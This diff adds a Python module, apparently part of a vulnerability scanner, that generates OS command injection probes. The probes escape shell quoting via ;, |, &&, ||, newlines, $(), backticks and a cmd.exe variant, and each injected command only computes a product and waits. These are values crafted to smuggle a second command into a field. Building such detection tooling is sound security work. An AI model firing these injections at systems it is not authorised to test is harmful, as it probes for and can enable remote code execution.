@@ -1,0 +1,73 @@
+"""Payloads of `rce`: ways out of a shell's quoting and into a command of our own, which only computes, prints and waits.
+
+In a pattern `{value}` stands for the baseline's value, `{print}` for a command that prints a product which is nowhere in
+the request, `{wait}` for one that waits. One payload serves the unquoted, the single-quoted and the double-quoted
+context: what stands behind the quote that closes runs, and the rest of the line is a comment. In none of them does the
+wait run twice.
+"""
+
+from typing import NamedTuple
+
+
+class Way(NamedTuple):
+    """A way to get a command run. blank: what stands between a command and its argument."""
+
+    name: str
+    pattern: str
+    windows: bool = False
+    blank: str = " "
+
+
+class Numbers(NamedTuple):
+    """What a payload computes and prints: before, the product, after. Fresh each time."""
+
+    before: str
+    left: int
+    right: int
+    after: str
+
+
+def _in_quotes(piece: str, comment: str = "#") -> str:
+    """The same piece behind nothing, behind a single quote, and behind a double quote."""
+    return "{value}" + comment.join((piece, "'" + piece, '"' + piece)) + comment
+
+
+SEQUENCE = Way("a second command, behind ;", _in_quotes(";{print};{wait};"))
+PIPE = Way("a second command, behind |", _in_quotes("|{wait}|{print} "))
+AND = Way("a second command, behind &&", _in_quotes("&&{print}&&{wait} "))
+OR = Way("a second command, behind ||", _in_quotes("||{print}||{wait} "))
+LINE = Way("a second command, on a line of its own", "{value}\n{print}\n{wait}\n")
+SUBSTITUTED = Way("a command in $()", "{value}$({wait}|{print})", blank="${IFS}")
+BACKTICKS = Way("a command in backticks", "{value}`{wait}|{print}`")
+# cmd.exe knows double quotes only, and `set /a` prints what it computes.
+WINDOWS = Way("a second command, behind & (Windows)", '{value}&{print}&{wait}&rem "&{print}&{wait}&rem ', windows=True)
+
+FOR_ALL = (SEQUENCE, PIPE, SUBSTITUTED)
+FOR_NUMBERS = (SEQUENCE, SUBSTITUTED)
+# For values that are likely to stand in a command line.
+FOR_COMMANDS = (SEQUENCE, PIPE, SUBSTITUTED, LINE, AND, BACKTICKS)
+FOR_WINDOWS = (WINDOWS, SEQUENCE)
+
+# Look like the command that waits, and are none.
+LOOKALIKES = ("slepe", "sleap", "slleep")
+
+
+def fill(way: Way, value: str, numbers: Numbers, wait: int, *, tame: bool = False, lookalike: str = "") -> str:
+    """The payload. wait: seconds. tame: prints the task itself, for the control. lookalike: stands for what waits."""
+    task = f"{numbers.left}*{numbers.right}"
+    if way.windows:
+        computing = f"echo {task}" if tame else f"set /a {task}"
+        # The first ping goes out at once, so that n + 1 of them take n seconds.
+        waiting = f"{lookalike or 'ping'} -n {wait + 1} 127.0.0.1 >nul"
+    else:
+        # Bare parentheses would be a syntax error; escaped ones are text.
+        shown = rf"\(\({task}\)\)" if tame else f"$(({task}))"
+        computing = f"echo{way.blank}{numbers.before}{shown}{numbers.after}"
+        waiting = f"{lookalike or 'sleep'}{way.blank}{wait}"
+    return way.pattern.replace("{print}", computing).replace("{wait}", waiting).replace("{value}", value)
+
+
+def expected(way: Way, numbers: Numbers) -> str:
+    """What the answer shows where the payload ran."""
+    product = str(numbers.left * numbers.right)
+    return product if way.windows else f"{numbers.before}{product}{numbers.after}"
